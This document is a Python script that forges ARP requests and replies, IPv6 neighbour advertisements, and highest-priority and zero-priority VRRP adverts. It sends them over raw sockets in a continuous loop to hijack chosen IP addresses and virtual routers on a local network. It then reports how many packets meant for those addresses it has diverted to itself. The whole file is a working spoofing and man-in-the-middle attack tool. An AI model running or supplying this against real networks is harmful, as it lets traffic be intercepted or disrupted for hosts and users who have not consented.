"""
A host that claims what is not its own: `python3 forger.py JSON`, JSON {"dev", "addresses", "to": [MAC], "routers":
[[source, destination]], "vrids"}. Sends for each address ARP requests, ARP replies and neighbour advertisements, for each
router VRRP adverts of the highest priority and of 0, to everybody and to each MAC. Prints a line of JSON per round: how
many rounds there were, and how many packets came here whose destination is one of the addresses.
"""
import fcntl
import ipaddress
import json
import socket
import struct
import sys
import time

ARP, IPV4, IPV6 = 0x0806, 0x0800, 0x86DD
SIOCGIFHWADDR = 0x8927
EVERYBODY = b"\xff" * 6

plan = json.loads(sys.argv[1])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
wire.bind((plan["dev"], 0))
heard = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
heard.bind((plan["dev"], 0))
heard.setblocking(False)
OWN = fcntl.ioctl(wire, SIOCGIFHWADDR, struct.pack("256s", plan["dev"].encode()))[18:24]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def arp(operation, to, address):
    sender = OWN + address.packed
    target = (b"\0" * 6 if to == EVERYBODY else to) + address.packed
    return to + OWN + struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, operation) + sender + target


def ipv4(source, destination, protocol, payload):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 255, protocol, 0) + source + destination
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def advertisement(to, destination, address):
    message = struct.pack("!BBHI", 136, 0, 0, 0x60000000 if to != EVERYBODY else 0x20000000) + address.packed + b"\2\1" + OWN
    pseudo = address.packed + destination.packed + struct.pack("!II", len(message), 58)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    head = struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + address.packed + destination.packed
    link = b"\x33\x33\0\0\0\1" if to == EVERYBODY else to
    return link + OWN + struct.pack("!H", IPV6) + head + message


def advert(to, sender, source, destination, vrid, priority):
    source, destination = source.packed, destination.packed
    message = struct.pack("!BBBBHH", 0x31, vrid, priority, 1, 1, 0) + source
    pseudo = source + destination + struct.pack("!BBH", 0, 112, len(message))
    message = message[:6] + struct.pack("!H", checksum(pseudo + message)) + message[8:]
    return to + sender + struct.pack("!H", IPV4) + ipv4(source, destination, 112, message)


def frames():
    everybody = [EVERYBODY, *map(mac, plan["to"])]
    for address in map(ipaddress.ip_address, plan["addresses"]):
        for to in everybody:
            if address.version == 4:
                yield from (arp(operation, to, address) for operation in (1, 2))
            else:
                yield advertisement(to, ipaddress.ip_address("ff02::1"), address)
    for pair in plan["routers"]:
        source, destination = map(ipaddress.ip_address, pair)
        for vrid in plan["vrids"]:
            for sender in (OWN, b"\0\0\x5e\0\1" + bytes([vrid])):
                for priority in (255, 0):
                    yield from (advert(to, sender, source, destination, vrid, priority) for to in everybody)
                    group = b"\1\0\x5e\0\0\x12"
                    yield advert(group, sender, source, ipaddress.ip_address("224.0.0.18"), vrid, priority)


claimed = {ipaddress.ip_address(address).packed for address in plan["addresses"]}


def diverted():
    count = 0
    while True:
        try:
            frame, (_, protocol, kind, *_) = heard.recvfrom(2048)
        except BlockingIOError:
            return count
        if kind == socket.PACKET_OUTGOING or frame[:6] != OWN:
            continue
        if protocol == IPV4 and frame[30:34] in claimed or protocol == IPV6 and frame[38:54] in claimed:
            count += 1


all_frames = list(frames())
rounds = caught = 0
while True:
    for frame in all_frames:
        wire.send(frame)
    rounds += 1
    caught += diverted()
    print(json.dumps({"rounds": rounds, "diverted": caught}), flush=True)
    time.sleep(0.02)
